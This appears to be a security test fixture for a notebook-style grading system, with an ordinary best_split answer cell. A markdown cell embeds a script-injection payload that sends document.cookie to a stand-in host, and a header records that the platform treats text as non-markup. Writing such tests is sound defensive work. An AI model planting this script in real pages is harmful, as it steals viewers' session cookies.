# ---
# class: script injection
# tries: Puts a script on the page that the instructor and the student read.
# defence: text is no markup
# gains: the page
# ends: passed
# earned: 2
# ---

# %% markdown
# <script>fetch("https://example.org/?" + document.cookie)</script>

# %% answer: 02_best_split
def best_split(n, parts):
    return [n // parts + (i < n % parts) for i in range(parts)]
